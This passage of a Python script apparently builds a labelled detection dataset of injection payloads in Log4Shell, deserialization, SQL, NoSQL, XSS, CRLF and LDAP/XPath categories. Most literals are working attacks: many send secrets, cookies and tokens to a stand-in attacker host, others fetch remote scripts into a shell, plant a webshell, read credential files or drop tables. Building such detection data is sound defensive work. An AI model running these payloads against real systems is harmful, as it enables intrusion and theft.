        ("log-line-log4shell-dns-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.exfil.attacker.example/k}"),
        ("webhook-field-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.${hostName}.attacker.example/a}"),
        ("header-value-log4shell+env-default-nesting", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.23/z}"),
        ("commit-message-log4shell-ldaps", "Merge branch 'x' ${jndi:ldaps://c2.attacker.example/b}"),
        ("log-line-log4shell+upper-lookup", "${jnd${upper:i}:ldap://attacker.example/${date:'u'}}"),
        # Deserialization in config uploads
        ("config-upload-pyyaml-apply-os-system", "!!python/object/apply:os.system ['curl http://attacker.example/y|sh']"),
        ("config-upload-pyyaml-apply-subprocess", "alert:\n  name: disk\n  handler: !!python/object/apply:subprocess.check_output [['sh', '-c', 'cat /etc/shadow | curl -d @- attacker.example']]"),
        ("config-upload-pyyaml-new-os-system", "!!python/object/new:os.system [\"id > /tmp/yaml_new\"]"),
        ("config-upload-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
        ("config-upload-ruby-yaml-erb", "--- !ruby/object:ERB\nsrc: \"<%= `id` %>\"\nlineno: 1"),
        ("config-upload-pickle-protocol0", pickle_txt),
        ("config-upload-pickle+base64", "pickle:" + b64(pickle_txt)),
        ("config-upload-jackson-logback-jndi", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://attacker.example:1389/jk"}]'),
        ("config-upload-fastjson-jdbcrowset", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.66:1389/Exploit","autoCommit":true}'),
        ("config-upload-jsonnet-dotnet-objectdataprovider", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c curl attacker.example/net"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
        ("config-upload-node-serialize-iife", '{"notify":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl attacker.example/ns|sh\')}()"}'),
        ("config-upload-php-unserialize", php_obj),
        ("config-upload-xstream-processbuilder", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>curl attacker.example/xs|sh</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
        ("config-upload-xxe-file-read", "<?xml version=\"1.0\"?>\n<!DOCTYPE job [<!ENTITY k SYSTEM \"file:///var/lib/jenkins/secrets/master.key\">]>\n<project><description>&k;</description></project>"),
        ("config-upload-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE cfg [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><cfg/>"),
        # Prototype pollution and formula injection
        ("config-json-proto-pollution-admin", '{"theme":"dark","__proto__":{"isAdmin":true,"role":"admin"}}'),
        ("config-json-constructor-prototype-pollution", '{"constructor":{"prototype":{"shell":"/bin/sh","env":{"NODE_OPTIONS":"--require /tmp/x.js"}}}}'),
        ("query-string-proto-pollution", "settings[__proto__][execArgv][]=--eval=require('child_process').execSync('id')"),
        ("incident-export-csv-hyperlink-exfil", "=HYPERLINK(\"http://attacker.example/?d=\"&B2&C2,\"see details\")"),
        ("incident-export-csv-dde-powershell", "=cmd|'/c powershell -nop -c iwr attacker.example/f.ps1|iex'!Z9"),
        ("ticket-export-csv-webservice", "=WEBSERVICE(\"https://attacker.example/x?\"&ENCODEURL(A1))"),
        ("ticket-export-csv-plus-dde", "+cmd|'/c calc.exe'!A1"),
        ("plain-jinja2-subclasses-dump", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("plain-log4shell", "${jndi:ldap://203.0.113.9/a}"),
        ("plain-spel-runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("plain-erb-system", "<%= system('id') %>"),
        ("plain-formula-sum-cmd", "@SUM(1+1)*cmd|'/c calc'!A0"),
    ]

    def gen():
        raise SystemExit("code has no template")
    return take("code", lit, gen, len(lit))


# ====================================================================== sqli
def sqli():
    lit = [
        ("incident-search-service-union-users", "checkout' UNION SELECT username,password_hash,NULL,NULL FROM portal_users--"),
        ("alert-filter-severity-tautology", "critical' OR '1'='1"),
        ("incident-list-sort-pg-sleep-case", "started_at,(SELECT CASE WHEN (SUBSTRING(current_user,1,1)='p') THEN pg_sleep(5) ELSE pg_sleep(0) END)"),
        ("incident-date-from-pg-sleep", "2024-06-01' AND 1=(SELECT 1 FROM pg_sleep(8))--"),
        ("host-filter-mysql-sleep", "web-03' AND SLEEP(6)-- -"),
        ("alert-id-extractvalue-error", "1 AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))"),
        ("ticket-id-mssql-xp-cmdshell", "INC-481'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/m.ps1 | iex'--"),
        ("runbook-search-pg-copy-to-program", "x'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/pg|sh';--"),
        ("log-dashboard-limit-union-tokens", "10 UNION ALL SELECT NULL,token,NULL FROM api_tokens"),
        ("hostname-like-filter-subquery-sleep", "%' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- "),
        ("deploy-id-pg-cast-error-shadow", "1 AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)"),
        ("oncall-id-stacked-role-update", "42; UPDATE users SET role='admin' WHERE email='ops@attacker.example'--"),
        ("environment-filter-boolean-blind-api-key", "prod' AND ASCII(SUBSTRING((SELECT api_key FROM integrations LIMIT 1),1,1))>64 AND 'a'='a"),
        ("snippet-search-sqlite-master", "x' UNION SELECT name, sql FROM sqlite_master--"),
        ("change-request-filter-oracle-utl-inaddr", "x' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM dual)||'.exfil.attacker.example')--"),
        ("asset-search-mssql-xp-dirtree", "'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\a'--"),
        ("job-id-mssql-waitfor", "1; WAITFOR DELAY '0:0:9'--"),
        ("runbook-filter-into-outfile-webshell", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/st.php'-- -"),
        ("host-search-load-file", "' UNION SELECT load_file('/etc/mysql/debian.cnf'),2,3-- -"),
        ("dashboard-json-filter-tautology", '{"host":"web-01\' OR 1=1--","range":"24h"}'),
        ("ticket-query-string-tautology+urlenc", "status=open&assignee=x%27%20OR%201%3D1--"),
        ("oncall-search-union+comment-spaces", "x'/**/UNION/**/SELECT/**/login,secret/**/FROM/**/oncall_users#"),
        ("service-filter-union+mixed-case", mixed_case("x' union select email,password from admins-- -")),
        ("log-filter-union+newlines", "x'\nUNION\nSELECT\nusername,\npassword\nFROM\nusers--"),
        ("tag-filter-paren-breakout", "tag:prod') OR ('x'='x"),
        ("incident-order-by-if-information-schema", "IF((SELECT COUNT(*) FROM information_schema.tables)>50,severity,started_at)"),
        ("alert-id-group-concat-tables", "0 UNION SELECT GROUP_CONCAT(table_name),2 FROM information_schema.tables WHERE table_schema=database()"),
        ("ticket-id-pg-read-file", "1;SELECT pg_read_file('/etc/passwd')--"),
        ("host-id-pg-ls-dir", "1 UNION SELECT pg_ls_dir('/var/lib/postgresql'),NULL--"),
        ("timeline-filter-updatexml", "x' AND updatexml(1,concat(0x3a,(SELECT password FROM mysql.user LIMIT 1)),1)-- "),
        ("metric-name-clickhouse-union-system-users", "cpu' UNION ALL SELECT name, auth_type FROM system.users--"),
        ("audit-log-filter-stacked-delete", "ktanaka'; DELETE FROM audit_log WHERE actor='attacker';--"),
        ("sla-report-range-stacked-insert-admin", "30; INSERT INTO portal_users(email,password_hash,role) VALUES('x@attacker.example','$2b$12$FAKEFAKEFAKE','admin')--"),
        ("service-owner-filter-mssql-union-sysobjects", "payments' UNION SELECT name,NULL FROM sysobjects WHERE xtype='U'--"),
        ("grafana-like-variable-pg-stacked-alter", "$__all'); ALTER USER grafana WITH SUPERUSER;--"),
        ("runbook-id-numeric-or-true", "17 OR 1=1"),
        ("page-size-mysql-benchmark", "50 AND BENCHMARK(40000000,SHA1(1))"),
        ("host-group-sqlite-randomblob", "x' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
        ("severity-in-list-breakout", "'warning') UNION SELECT id, session_token FROM sessions--"),
        ("incident-search-german-union", "Ausfall Zahlungs' UNION SELECT benutzer, passwort FROM konten--"),
        ("on-call-name-case-blind", "x' OR (SELECT CASE WHEN (SELECT COUNT(*) FROM users WHERE role='admin')>1 THEN 1 ELSE 1/0 END)=1--"),
        ("alert-label-filter-hex-string", "x' UNION SELECT 1,0x2f6574632f706173737764-- -"),
        ("host-id-union+urlenc", q("0 UNION SELECT user(),database()-- -")),
        ("severity-filter-tautology+double-urlenc", "critical%2527%2520OR%25201%253D1--"),
        ("plain-tautology-comment", "' OR 1=1--"),
        ("plain-admin-comment", "admin'--"),
        ("plain-order-by-probe", "1' ORDER BY 9--"),
        ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL--"),
        ("plain-numeric-sleep", "1 AND SLEEP(5)"),
        ("plain-stacked-drop", "x'; DROP TABLE incidents;--"),
        ("plain-paren-tautology", "') OR ('1'='1"),
        ("incident-search-spanish-union", "caída de pagos' UNION SELECT usuario, clave FROM cuentas--"),
    ]
    ctx = ["incident-search", "host-filter", "alert-filter", "ticket-id", "log-dashboard"]
    pays = [("union-credentials", "%s' UNION SELECT %s,%s FROM %s--"), ("time-sleep", "%s' AND SLEEP(%d)-- -"), ("time-pg-sleep", "%s' AND 1=(SELECT 1 FROM pg_sleep(%d))--")]

    def gen():
        c = pick(ctx)
        name, fmt = pick(pays)
        seed = pick(["web-0%d" % RNG.randint(1, 9), pick(["checkout", "payments", "auth"]), "INC-%d" % RNG.randint(400, 600)])
        if name == "union-credentials":
            v = fmt % (seed, pick(["username", "email", "login"]), pick(["password", "password_hash", "api_token"]), pick(["users", "portal_users", "admins", "accounts"]))
        else:
            v = fmt % (seed, RNG.randint(4, 12))
        return "%s-%s" % (c, name), v
    return take("sqli", lit, gen, 62)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("ops-dashboard-mongo-ne-host", '{"host":{"$ne":null},"env":"prod"}'),
        ("incident-filter-query-string-ne", "severity[$ne]=info&status[$ne]=closed"),
        ("runbook-search-mongo-where-sleep", '{"$where":"sleep(5000) || true"}'),
        ("oncall-lookup-mongo-regex-token", '{"user":"ops","api_token":{"$regex":"^a"}}'),
        ("portal-login-mongo-gt-empty", '{"username":"admin","password":{"$gt":""}}'),
        ("incident-search-where-string-breakout", "x'; while(true){}; var y='"),
        ("alert-owner-mongo-or-tenant-escape", '{"$or":[{"team":"payments"},{"team":{"$exists":true}}]}'),
        ("metrics-filter-mongo-in-admin", "owner[$in][]=admin&owner[$in][]=root"),
        ("runbook-query-mongo-expr-function", '{"$expr":{"$function":{"body":"function(){ return this.secret !== undefined }","args":[],"lang":"js"}}}'),
        ("log-search-elasticsearch-query-string-index-escape", '{"query":{"query_string":{"query":"* OR _index:secrets-*","default_field":"message"}}}'),
        ("plain-mongo-ne", '{"$ne":1}'),
        ("plain-mongo-where-true", '{"$where":"return true"}'),
    ]
    users = ["admin", "root", "ops", "svc_deploy"]

    def gen():
        u = pick(users)
        return "portal-login-mongo-regex-prefix", '{"username":"%s","password":{"$regex":"^%s"}}' % (u, "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 3))))
    return take("nosqli", lit, gen, 15)


# ====================================================================== xss
def xss():
    lit = [
        ("incident-title-img-onerror-cookie", "<img src=x onerror=fetch('https://attacker.example/c?'+document.cookie)>"),
        ("alert-title-svg-onload", "[FIRING:1] DiskFull <svg onload=alert(document.domain)>"),
        ("log-line-request-path-script", '192.0.2.1 - - [12/Jun/2024:10:00:00 +0000] "GET /<script>new Image().src=\'//attacker.example/l?\'+btoa(localStorage.token)</script> HTTP/1.1" 404 0 "-" "curl/8.5.0"'),
        ("log-line-user-agent-img-import", "Mozilla/5.0 <img src=1 onerror=import('//attacker.example/x.js')>"),
        ("hostname-field-attribute-breakout-script", "web-03\"><script src=//attacker.example/h.js></script>"),
        ("runbook-markdown-javascript-link", "[Open Grafana](javascript:fetch('//attacker.example/?'+document.cookie))"),
        ("runbook-html-javascript-href", "<a href=\"jaVasCript:location='//attacker.example/?c='+document.cookie\">Runbook (new)</a>"),
        ("incident-note-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.location='//attacker.example/?c='+parent.document.cookie</script>\"></iframe>"),
        ("paste-body-textarea-breakout", "</textarea><script>fetch('//attacker.example/p',{method:'POST',body:document.body.innerHTML})</script>"),
        ("incident-summary-details-ontoggle", "<details open ontoggle=\"eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8/Jytkb2N1bWVudC5jb29raWUp'))\">"),
        ("status-page-message-body-onload", "Maintenance done <body onload=alert(1)>"),
        ("alert-description-mxss-mathml", "<math><mtext><table><mglyph><style><img src=x onerror=alert(document.cookie)></style></mglyph></table></mtext></math>"),
        ("service-name-attribute-autofocus", "checkout\" autofocus onfocus=\"location='//attacker.example/?'+document.cookie"),
        ("dashboard-title-js-string-breakout", "';fetch('//attacker.example/?k='+sessionStorage.getItem('jwt'));//"),
        ("deploy-note-script-close-breakout", "</script><script>document.location='https://attacker.example/s?c='+document.cookie</script>"),
        ("runbook-wiki-angular-expression", "{{constructor.constructor('fetch(`//attacker.example/`+document.cookie)')()}}"),
        ("alert-annotation-svg-animate-onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
        ("incident-title-img+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
        ("ticket-subject-script+urlenc", q("<script>alert(document.cookie)</script>")),
        ("alert-title-script+mixed-case", "<ScRiPt>fetch('//attacker.example/mc?'+document.cookie)</sCrIpT>"),
        ("runbook-embed-object-data-uri+base64", "<object data=\"data:text/html;base64,%s\"></object>" % b64("<script>alert(document.domain)</script>")),
        ("stack-trace-message-img-onerror", "java.lang.IllegalArgumentException: Invalid host <img src=x onerror=alert(1)>\n\tat com.acme.net.HostValidator.check(HostValidator.java:31)"),
        ("k8s-annotation-value-script", "kubernetes.io/change-cause: <script>alert('rollout')</script>"),
        ("incident-title-japanese-script", "障害対応メモ<script>fetch('//attacker.example/jp?'+document.cookie)</script>"),
        ("oncall-comment-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
        ("incident-attachment-caption-video-source", "<video><source onerror=\"fetch('//attacker.example/v?'+document.cookie)\"></video>"),
        ("alert-title-css-import", "<style>@import'//attacker.example/x.css';</style>"),
        ("runbook-title-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/phish\">"),
        ("paste-title-base-href-hijack", "<base href=\"https://attacker.example/\">"),
        ("incident-comment-fake-login-form", "<form action=https://attacker.example/login><input name=pass type=password placeholder='Session expired, re-enter password'><button>OK</button></form>"),
        ("commit-message-ci-ui-img", "Fix build <img src=/ onerror=\"navigator.sendBeacon('//attacker.example/b',document.cookie)\">"),
        ("branch-name-ci-ui-svg", "feature/<svg/onload=alert(1)>"),
        ("webhook-sender-name-script", "ci-bot<script src=https://attacker.example/ci.js></script>"),
        ("chat-message-marked-link-title", "[docs](https://wiki.example.com \"x\" onmouseover=\"alert(1))"),
        ("log-line-json-msg-img", '{"level":"error","msg":"<img src=x onerror=alert(document.domain)>","svc":"auth"}'),
        ("nginx-error-log-referer-svg", "2024/06/12 10:11:12 [error] 1#1: *5 open() failed, client: 192.0.2.9, request: \"GET /x HTTP/1.1\", referrer: \"<svg onload=alert(1)>\""),
        ("grafana-annotation-text-img", "Deploy 2.14.3 <img src=x onerror=\"fetch('/api/admin/users',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('//attacker.example/g',{method:'POST',body:t}))\">"),
        ("alert-label-value-javascript-uri", "javascript:alert(document.cookie)//"),
        ("incident-title-vue-template", "{{_c.constructor('alert(document.domain)')()}}"),
        ("runbook-svg-upload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
        ("incident-title-img+js-unicode-escapes", "<img src=x onerror=\"\\u0061\\u006c\\u0065\\u0072\\u0074(1)\">"),
        ("log-viewer-ansi-title-breakout", "</title><script>alert(1)</script>"),
        ("runbook-step-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        ("paste-language-field-attribute", "python\" onmouseover=\"alert(document.cookie)\" x=\""),
        ("incident-severity-select-option-breakout", "</option></select><img src=x onerror=alert(1)>"),
        ("chat-message-french-img", "Déploiement terminé ✅ <img src=x onerror=\"location='//attacker.example/fr?'+document.cookie\">"),
        ("plain-script-alert", "<script>alert(1)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg/onload=alert(1)>"),
        ("plain-javascript-uri", "javascript:alert(document.domain)"),
        ("plain-body-onpageshow", "<body onpageshow=alert(1)>"),
        ("plain-iframe-javascript", "<iframe src=\"javascript:alert(document.cookie)\">"),
        ("alert-title-russian-img", "Диск заполнен <img src=x onerror=alert(document.cookie)>"),
    ]
    ctx = ["incident-title", "alert-title", "hostname", "paste-title", "runbook-title"]
    pays = ["<img src=x onerror=alert(%d)>", "<svg onload=alert(%d)>", "\"><script>alert(%d)</script>", "<iframe src=javascript:alert(%d)>"]

    def gen():
        c = pick(ctx)
        return c + "-html-injection", "%s %s" % (pick(["Checkout down", "Disk full es-01", "TLS expiry", "Kafka lag", "DB failover"]), pick(pays) % RNG.randint(1, 999))
    return take("xss", lit, gen, 57)


# ====================================================================== crlf
def crlf():
    lit = [
        ("audit-log-field-forged-entry", "deploy by ktanaka\n2024-06-12T09:00:00Z INFO user=admin action=grant_role role=superuser status=success"),
        ("hostname-log-forged-audit-crlf", "web-03\r\n[2024-06-12 09:14:07] AUDIT admin login from 10.0.0.1 OK"),
        ("webhook-custom-header-value-injection", "application/json\r\nX-Forwarded-For: 127.0.0.1"),
        ("redirect-param-set-cookie+urlenc", "/dashboard%0d%0aSet-Cookie:%20session=attacker-fixed"),
        ("redirect-param-location+urlenc", "%0d%0aLocation:%20https://attacker.example/"),
        ("download-filename-response-splitting", "report.csv\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
        ("alert-email-subject-bcc-injection", "Disk full on es-01\r\nBcc: leak@attacker.example"),
        ("alert-email-from-name-header-injection", "Ops Bot\r\nReply-To: helpdesk@attacker.example\r\nX-Priority: 1"),
        ("syslog-message-forged-line", "job finished\n<13>Jun 12 10:00:00 bastion sshd[1]: Accepted password for root from 10.0.0.5 port 22 ssh2"),
        ("json-log-field-quote-forgery", "x\",\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password reset ok"),
        ("log-field-unicode-line-separator", "ok\u20282024-06-12T10:00:00Z INFO admin exported all customer data"),
        ("log-field-next-line-char", "ok\u00852024-06-12 10:00:00 WARN firewall disabled by admin"),
        ("header-value-unicode-crlf+utf8-trick", "x%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker"),
        ("cache-key-redis-protocol-injection", "session:42\r\nFLUSHALL\r\n"),
        ("memcached-key-command-injection", "user_42\r\nset admin_flag 0 0 4\r\ntrue"),
        ("transfer-encoding-header-smuggle", "chunked\r\nTransfer-Encoding: identity"),
        ("log-viewer-ansi-escape-hyperlink", "build ok \u001b]8;;https://attacker.example/run\u0007click to retry\u001b]8;;\u0007"),
        ("log-field-ansi-clear-screen-forgery", "x\u001b[2J\u001b[HAll checks passed. Deploy approved by security."),
        ("webhook-user-agent-header-crlf", "GitLab/17.0\r\nX-Gitlab-Token: forged-token\r\n"),
        ("ci-env-output-file-injection", "v2.14.3\nDEPLOY_TARGET=prod\nSKIP_APPROVAL=true"),
        ("github-output-delimiter-injection", "notes\nEOF\nis_admin=true\nEOF"),
        ("trace-header-value-log-injection+urlenc", "abc123%0aINFO%20auth%20ok%20user%3Droot"),
        ("csv-log-export-row-injection", "checkout\r\n2024-06-12,admin,deleted all incidents,success"),
        ("nginx-log-request-line-forgery", "/health HTTP/1.1\" 200 2 \"-\" \"kube-probe/1.29\"\n10.0.0.1 - admin [12/Jun/2024:10:00:00 +0000] \"POST /admin/users/grant HTTP/1.1\" 200"),
        ("smtp-rcpt-field-command-injection", "ops@example.com>\r\nRCPT TO:<leak@attacker.example"),
        ("http-header-host-override", "shop.example.com\r\nHost: admin.internal"),
        ("plain-crlf-set-cookie+urlenc", "%0d%0aSet-Cookie: sid=x"),
        ("plain-crlf-header", "\r\nX-Injected: 1"),
        ("plain-lf-log-forgery", "\nINFO login succeeded for admin"),
        ("alert-email-subject-japanese-bcc", "ディスク容量警告\r\nBcc: leak@attacker.example"),
    ]
    ctxs = ["audit-log", "request-log", "webhook-header", "alert-email-header"]
    forged = ["INFO user=%s action=sudo result=allowed", "WARN firewall rule %d deleted by %s", "Set-Cookie: session=%s", "X-Role: %s"]

    def gen():
        c = pick(ctxs)
        f = pick(forged)
        tail = f % ((pick(["admin", "root", "ops"]),) if f.count("%") == 1 else (RNG.randint(1, 99), pick(["admin", "root"])))
        return c + "-crlf-forgery", "%s%s%s" % (pick(["ok", "done", "web-03", "checkout"]), pick(["\r\n", "\n", "%0d%0a", "%0a"]), tail)
    return take("crlf", lit, gen, 36)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("admin-portal-user-lookup-or-password", "*)(|(userPassword=*"),
        ("admin-portal-user-lookup-group-bypass", "jdoe)(|(memberOf=cn=Domain Admins,ou=groups,dc=corp,dc=example,dc=com)"),
        ("service-account-search-not-locked", "svc_*)(!(pwdAccountLockedTime=*))(|(uid=*"),
        ("group-lookup-member-wildcard", "ops)(member=*"),
        ("directory-search-null-truncation+null-byte", "*))%00"),
        ("ssh-key-lookup-admin-keys", "admin*)(|(sshPublicKey=*"),
        ("ad-lookup-laps-password", "*)(|(ms-Mcs-AdmPwd=*"),
        ("ad-lookup-spn-kerberoast", "krbtgt)(|(servicePrincipalName=*"),
        ("oncall-email-lookup-mobile-leak", "*@example.com)(|(mobile=*"),
        ("vpn-group-check-always-true", "vpn-users)(objectClass=*))(&(cn=x"),
        ("directory-lookup-or-injection+urlenc", q("*)(|(uid=root")),
        ("sudo-rule-lookup-sudoers-wildcard", "*)(|(sudoCommand=ALL"),
        ("people-search-german-wildcard", "Müller*)(|(telephoneNumber=*"),
        ("inventory-xml-host-xpath-tautology", "web-01' or '1'='1"),
        ("inventory-xml-xpath-union-credentials", "'] | //credentials/* | //host['"),
        ("config-xml-xpath-blind-root-name", "x' or name(/*[1])='config' or 'a'='b"),
        ("config-xml-xpath-count-secrets", "' or count(//secret)>0 or '"),
        ("jenkins-config-xpath-password-substring", "x' or substring(//hudson.util.Secret[1],1,1)='A' or 'a'='b"),
        ("plain-ldap-star-close", "*)(uid=*"),
        ("plain-xpath-or-true", "\" or true() or \""),
    ]
    users = ["admin", "root", "svc_backup", "ktanaka", "jdoe"]

    def gen():
        u = pick(users)
        return "admin-portal-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdefghjk0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 25)


CATEGORIES = [
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("sqli", sqli),
    ("nosqli", nosqli),
    ("xss", xss),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha21-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    for cat, _ in CATEGORIES:
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d" % ("total", len(rows)))


if __name__ == "__main__":
    main()
